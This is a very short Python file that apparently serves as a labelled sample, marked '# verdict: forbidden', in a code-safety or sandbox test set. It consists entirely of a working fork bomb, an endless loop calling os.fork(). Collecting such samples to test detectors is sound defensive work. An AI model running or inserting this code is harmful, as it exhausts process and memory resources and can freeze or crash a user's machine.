# verdict: forbidden
import os

while True:
    os.fork()
